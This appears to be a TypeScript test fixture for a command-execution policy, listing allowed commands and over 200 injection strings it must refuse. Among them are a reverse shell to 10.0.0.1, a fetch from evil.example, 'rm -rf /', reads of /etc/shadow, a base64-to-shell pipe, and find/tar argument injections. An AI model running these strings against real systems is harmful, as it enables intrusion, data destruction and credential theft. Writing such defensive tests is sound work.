/**
 * Command-injection attempts against the ibcmd audit, each of which must be refused under TEST_POLICY.
 * Grouped by technique; the generated groups combine separators and payloads with whitelisted commands.
 */
import type { CommandPolicy } from '../../../src/rcmd/index.js';

/** A whitelist with commands an attacker would love to extend: ls, sort, find, tar, grep, date, tail, echo. */
export const TEST_POLICY: CommandPolicy = {
  allowNonAscii: false,
  blacklist: [
    '* -exec*', '* -execdir*', '* -ok *', '* -okdir*', '* -delete*', '* -fprint*', '* -fls *',
    '*--to-command*', '*--checkpoint-action*', '*--use-compress-program*', '*--rsh-command*', '*--files-from*',
    '* @*',
  ],
  whitelist: [
    'ls', 'ls **', 'sort **', 'find **', 'tar -czf backup/*.tgz etc', 'tar **', 'grep **', 'date', 'date +*',
    'tail -n * log/*.log', 'cat log/*.log', 'echo **', 'ibas -s *', 'ibas -a stop', 'df -h', '/usr/bin/uptime',
  ],
};

/** Commands TEST_POLICY allows, with the argv they become. */
export const ALLOWED: [string, string[]][] = [
  ['ls', ['ls']],
  ['ls -la etc', ['ls', '-la', 'etc']],
  ['ls   -l    log', ['ls', '-l', 'log']],
  ['sort -o out.txt in.txt', ['sort', '-o', 'out.txt', 'in.txt']],
  ['sort --output=sorted/out.txt data.txt', ['sort', '--output=sorted/out.txt', 'data.txt']],
  ['find etc -name ibas.conf', ['find', 'etc', '-name', 'ibas.conf']],
  ['tar -czf backup/etc.tgz etc', ['tar', '-czf', 'backup/etc.tgz', 'etc']],
  ['grep -c ERROR log/event.log', ['grep', '-c', 'ERROR', 'log/event.log']],
  ['date', ['date']],
  ['date +%Y-%m-%d', ['date', '+%Y-%m-%d']],
  ['tail -n 100 log/ibas_main.log', ['tail', '-n', '100', 'log/ibas_main.log']],
  ['cat log/event.log', ['cat', 'log/event.log']],
  ['echo hello world', ['echo', 'hello', 'world']],
  ['ibas -s status', ['ibas', '-s', 'status']],
  ['ibas -a stop', ['ibas', '-a', 'stop']],
  ['df -h', ['df', '-h']],
  ['/usr/bin/uptime', ['/usr/bin/uptime']],
  ['echo user@host a,b key=value x:y', ['echo', 'user@host', 'a,b', 'key=value', 'x:y']],
];

const PAYLOADS = ['id', 'rm -rf /', 'cat /etc/shadow', 'nc -e sh 10.0.0.1 4444', 'curl http://evil.example/x'];
const SEPARATORS = [';', ' ; ', '&&', ' && ', '||', ' || ', '|', ' | ', '&', ' & ', '\n', '\r', '\r\n', '|&', ';;', '\0'];
const CARRIERS = ['ls', 'echo hi', 'date'];

/** Separators between a whitelisted command and a payload: 16 × 5 + trailing/leading forms. */
function separatorCases(): string[] {
  const out: string[] = [];
  for (const sep of SEPARATORS) for (const p of PAYLOADS) out.push(`ls${sep}${p}`);
  for (const c of CARRIERS) out.push(`${c} &`, `${c};`, `;${c}`, `${c}\n`, `\n${c}`, `${c} |`);
  return out;
}

const SUBSTITUTIONS = [
  'ls $(id)', 'ls `id`', 'echo $(cat /etc/shadow)', 'echo `cat /etc/shadow`', 'ls ${IFS}id', 'ls$IFS/etc',
  'echo $((1+1))', "echo $'\\x3bid'", 'ls <(id)', 'sort >(id)', 'echo $HOME', 'echo ${PATH}', 'echo $0', 'echo $$',
  'echo $?', 'echo $_', 'echo ${a:-id}', 'echo $[1+1]', 'echo !!', 'echo !$', 'echo !-1', 'ls $(echo /)',
  'ls "$(id)"', "ls '$(id)'", 'ls $({id,})', 'ls $PWD/../..', '$SHELL', '${SHELL}', '`id`', '$(id)',
];

const REDIRECTIONS = [
  'ls > /etc/passwd', 'ls >> etc/ibcmd.conf', 'sort < /etc/shadow', 'ls 2> x', 'ls &> x', 'ls >| x',
  'sort <<< x', 'sort << EOF', 'ls 1>&2', 'ls >&2', 'ls <>x', 'ls 2>&1', 'echo key > keys/ibcmd.secret',
  'ls>x', 'ls<x',
];

const GLOBS_AND_EXPANSIONS = [
  'ls *', 'ls ?', 'ls [a-z]*', 'ls {a,b}', 'ls ~', 'ls ~root', 'cat /etc/pass*', 'ls .*', 'ls **/x', 'ls etc/???',
  'ls ~/.ssh', 'echo {1..1000000000}',
];

const QUOTES_AND_ESCAPES = [
  "ls 'a;b'", 'ls "a b"', 'ls \\;id', 'l\\s', 'ls \\', '"ls"', "'ls'", 'ls #comment', 'ls ^ id', 'ls\tetc',
  'ls\vetc', 'ls\fetc', 'ls \x1b[2Jx', 'ls \x7f', 'ls\x08\x08rm',
];

const ENCODINGS = [
  'ls %3Bid', 'ls %0aid', 'ls %26%26id', 'ls &#59;id', 'ls \\x3bid', 'ls \\073id', 'ls \\u003bid', "ls $'\\073'",
  'ls %2e%2e/%2e%2e/etc', 'ls %252e%252e', 'echo aWQ= | base64 -d | sh', 'ls %7Cid', 'ls %60id%60', 'ls %24%28id%29',
  'ls &#x3b;id', 'ls &semi;id',
];

/** Look-alikes and invisible characters (U+ escapes to keep the source readable). */
const UNICODE = [
  'ls\uFF1Bid', 'ls \uFF5C id', 'ls \uFF06\uFF06 id', 'ls \uFF04(id)', 'ls \uFF08id\uFF09', 'ls \uFF1E x', 'ls \uFF1C x',
  'ls \u2018a\u2019', 'ls \u201Ca\u201D', 'ls\u037Eid', 'ls\u204Fid', 'ls\uFE14id', 'ls\uFE54id', 'ls \u2223 id',
  'ls \u01C0 id', 'ls\u200Bid', 'ls\u200D', 'ls \u202Edi', 'ls\u00A0etc', 'ls\u2028id', 'ls\u2029id', 'ls\u0085id',
  'ls\u3000etc', '\u0441at log/a.log', '\uFF4C\uFF53', 'ls\uFEFF', 'ls -\u00ADla', 'ls e\u0301tc', 'ls \u2474',
  'ls \uFF0E\uFF0E/etc', 'ls \u2025/etc', 'ls \u2215etc', 'ls \uFE68 etc', 'ls \u00B4id\u00B4', 'ls \uFF40id\uFF40',
];

/** Argument injection into whitelisted commands, and commands that are not whitelisted at all. */
const ARGUMENTS = [
  'sort --output=/etc/passwd x', 'sort -o/etc/passwd x', 'sort -o /etc/passwd x', 'sort --output /etc/cron.d/x',
  'sort --temporary-directory=/tmp x', 'sort -T/tmp x', 'sort --files0-from=/etc/x', 'ls ../../etc', 'ls ..',
  'ls etc/../../..', 'ls /', 'ls -la /root', 'ls --hide=/etc', 'ls -I/etc', 'ls host:/etc/passwd', 'ls a,/etc',
  'ls x=../y', 'ls --color=../x', 'cat log/../../etc/passwd.log', 'cat /etc/passwd', 'cat log/a.log /etc/passwd',
  'tail -n 10 /etc/shadow', 'tail -n /etc/x log/a.log', 'tail -n 10 log/a.log /etc/passwd', 'tail -n 10 log/sub/a.log',
  'tail -f log/a.log', 'find . -execdir id', 'find . -delete', 'find . -fprint out', 'find . -fls out',
  'find / -name x', 'find . -ok id', 'find . -okdir id', 'tar -cf x --to-command=id etc',
  'tar --checkpoint-action=exec=id -cf x etc', 'tar --use-compress-program=id -cf x etc', 'tar -czf backup/a.tgz /etc',
  'tar -czf /tmp/a.tgz etc', 'tar -czf backup/../../a.tgz etc', 'tar -T /etc/x -cf y', 'tar --files-from=list -cf y',
  'rsync --rsh-command=id a b', 'ls @/etc/passwd', 'grep -f /etc/shadow x', 'grep -r x /', 'grep x ../../etc/passwd',
  'date -f /etc/shadow', 'date --file=/etc/shadow', 'ibas -s ..', 'ibas -s status extra', 'ibas -a stop now',
  'ibas -a start', 'ibas -s /etc', 'df -h /', 'uptime', '/usr/bin/uptime -p', '/bin/sh', 'sh -c id', 'bash',
  'python3 -c x', 'node -e x', 'env id', 'xargs id', 'nohup id', './evil', '../bin/sh', 'bin/sh', 'busybox sh',
  'LD_PRELOAD=/x.so ls', 'PATH=. ls', 'rm -rf etc', 'cp etc/a etc/b', 'chmod 777 etc', 'kill -9 1', 'ls -la ~',
  'echo ../../../etc/passwd', 'echo -e /etc', '',
];

/** Every attempt, with its group. At least 200, all refused. */
export const INJECTIONS: { group: string; cmd: string }[] = [
  ...separatorCases().map((cmd) => ({ group: 'separator', cmd })),
  ...SUBSTITUTIONS.map((cmd) => ({ group: 'substitution', cmd })),
  ...REDIRECTIONS.map((cmd) => ({ group: 'redirection', cmd })),
  ...GLOBS_AND_EXPANSIONS.map((cmd) => ({ group: 'glob', cmd })),
  ...QUOTES_AND_ESCAPES.map((cmd) => ({ group: 'quote', cmd })),
  ...ENCODINGS.map((cmd) => ({ group: 'encoding', cmd })),
  ...UNICODE.map((cmd) => ({ group: 'unicode', cmd })),
  ...ARGUMENTS.map((cmd) => ({ group: 'argument', cmd })),
];
